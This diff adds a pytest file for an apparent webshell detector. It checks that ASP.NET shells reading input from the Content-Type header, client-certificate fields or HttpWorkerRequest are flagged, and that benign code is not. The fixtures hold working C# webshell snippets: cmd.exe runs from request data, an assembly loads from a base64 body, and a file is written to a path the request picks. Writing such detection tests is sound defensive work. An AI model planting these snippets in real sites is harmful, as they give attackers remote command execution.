@@ -1,0 +1,86 @@
+"""Request data read where shells hide it from the usual names: the Content-Type header
+(`Request.ContentType`), the client certificate's fields (`Request.ClientCertificate`), and the
+raw worker request (`HttpWorkerRequest`: the preloaded or read body, headers, the query string),
+reached through the context's service provider (docs/detection/webshell-code.md, "Less common
+ways to the request")."""
+
+from __future__ import annotations
+
+import pytest
+
+from code_support import assert_benign, assert_found, cs_page
+
+WORKER = (
+    "HttpWorkerRequest wr = (HttpWorkerRequest)((IServiceProvider)HttpContext.Current)"
+    ".GetService(typeof(HttpWorkerRequest));\n"
+)
+
+SHELLS = [
+    (
+        "content-type.aspx",
+        cs_page('System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.ContentType.Substring(20));'),
+        "EXH-WS-CODE-PROCESS",
+        ["the Content-Type header", "Process.Start"],
+    ),
+    (
+        "client-cert.aspx",
+        cs_page('System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.ClientCertificate["SUBJECTCN"]);'),
+        "EXH-WS-CODE-PROCESS",
+        ["client certificate", "Process.Start"],
+    ),
+    (
+        "worker-body.aspx",
+        cs_page(
+            WORKER + "byte[] body = wr.GetPreloadedEntityBody();\n"
+            "System.Reflection.Assembly.Load(Convert.FromBase64String(System.Text.Encoding.UTF8.GetString(body)))"
+            '.CreateInstance("U").Equals(this);'
+        ),
+        "EXH-WS-CODE-ASSEMBLY",
+        ["the request body (HttpWorkerRequest)", "Assembly.Load"],
+    ),
+    (
+        "worker-read.aspx",
+        cs_page(
+            WORKER + "byte[] buf = new byte[4096];\nint n = wr.ReadEntityBody(buf, buf.Length);\n"
+            'System.IO.File.WriteAllBytes(wr.GetUnknownRequestHeader("X-Path"), buf);'
+        ),
+        "EXH-WS-CODE-FILE-WRITE",
+        ["the request body (HttpWorkerRequest)", "File.WriteAllBytes"],
+    ),
+    (
+        "worker-var.aspx",
+        cs_page(
+            "var sp = (IServiceProvider)HttpContext.Current;\n"
+            "var wr = (HttpWorkerRequest)sp.GetService(typeof(HttpWorkerRequest));\n"
+            'System.Diagnostics.Process.Start("cmd.exe", "/c " + wr.GetQueryString());'
+        ),
+        "EXH-WS-CODE-PROCESS",
+        ["HttpWorkerRequest", "Process.Start"],
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS, ids=[s[0] for s in SHELLS])
+def test_less_common_request_data_is_followed(name: str, code: str, rule_id: str, words: list[str]) -> None:
+    assert_found(name, code, rule_id, words)
+
+
+BENIGN = [
+    (
+        "json-check.aspx",
+        cs_page('if (Request.ContentType.StartsWith("application/json")) Response.StatusCode = 415;'),
+    ),
+    (
+        "response-type.aspx",
+        cs_page('Response.ContentType = "text/plain";\nSystem.Diagnostics.Process.Start("cmd.exe", "/c ver");'),
+    ),
+    (
+        "worker-log.aspx",
+        cs_page(WORKER + 'System.IO.File.AppendAllText(Server.MapPath("~/App_Data/agents.log"), wr.GetRawUrl());'),
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
+def test_ordinary_uses_stay_quiet(name: str, code: str) -> None:
+    assert_benign(name, code)
